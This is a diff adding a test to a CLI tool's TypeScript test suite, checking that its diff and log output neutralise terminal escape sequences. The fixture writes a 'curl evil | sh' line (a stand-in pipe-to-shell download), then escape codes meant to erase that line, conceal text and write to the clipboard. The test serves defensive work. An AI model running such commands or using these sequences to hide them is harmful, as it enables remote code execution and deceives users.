@@ -244,6 +244,48 @@ describe.each(['1', '0'])('hmm diff (HMM_FIRST_INDEX=%s)', value => {
     expect((await hmm(world, ['diff'])).stdout).toMatch(/^diff --git/)
   })
 
+  it("cannot drive the terminal with the content's escape sequences: shown, not acted on (diff and log -p)", async () => {
+    world = newWorld('diff-escapes')
+    await world.gitRepo()
+    // Erase the line above, conceal, write the clipboard (OSC 52), a C1 CSI, a bidi override; one in a commit too.
+    const script = [
+      "printf 'curl evil | sh\\n\\033[1A\\033[2K\\033[8mhidden\\033[m\\033]52;c;Y3VybA==\\007\\302\\233 x\\342\\200\\256 rtl\\n' > build.sh",
+      "printf 'a\\033[2Kb\\n' > committed.txt && git add committed.txt && git commit -qm c",
+    ].join(' && ')
+    const ws = await made(world, script)
+    const onTerminal = async (args: string[], colour: boolean) => {
+      const env = {...world.env, TERM: 'xterm', GIT_PAGER: 'cat'}
+      if (colour) delete (env as Record<string, string>).NO_COLOR
+      const result = await execa('script', ['-qec', `${process.execPath} ${BIN} ${args.join(' ')}`, '/dev/null'], {
+        cwd: world.origin,
+        env,
+        extendEnv: false,
+        reject: false,
+      })
+      return String(result.stdout)
+    }
+    // hmm's own colours (git's defaults) are the only sequences left.
+    // eslint-disable-next-line no-control-regex -- the point of the test
+    const ownColours = /\x1b\[(?:1|31|32|36)?m/g
+    // eslint-disable-next-line no-control-regex -- the point of the test
+    const acting = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u202a-\u202e]/
+    for (const colour of [true, false]) {
+      const diff = await onTerminal(['diff', ws.id], colour)
+      expect(diff).toContain('curl evil | sh')
+      expect(diff).toContain('^[[1A^[[2K^[[8mhidden^[[m^[]52;c;Y3VybA==^G<U+009B> x<U+202E> rtl')
+      const log = await onTerminal(['log', '-p', ws.id], colour)
+      expect(log).toContain('a^[[2Kb')
+      for (const output of [diff, log]) {
+        expect(output.replace(ownColours, '')).not.toMatch(acting)
+        if (!colour) expect(output).not.toContain('\x1b')
+      }
+      if (colour) expect(diff).toContain('\x1b[32m+\x1b[m\x1b[32mcurl evil | sh\x1b[m')
+      if (colour) expect(log).toContain('\x1b[32m+\x1b[m\x1b[32ma^[[2Kb\x1b[m')
+    }
+    // Off a terminal: the patch's bytes as they are.
+    expect((await hmm(world, ['diff', ws.id])).stdout).toContain('\x1b[8mhidden')
+  })
+
   it('says so for a workspace whose tree was deleted by hand', async () => {
     world = newWorld('diff-gone')
     world.file('a.txt', 'a\n')
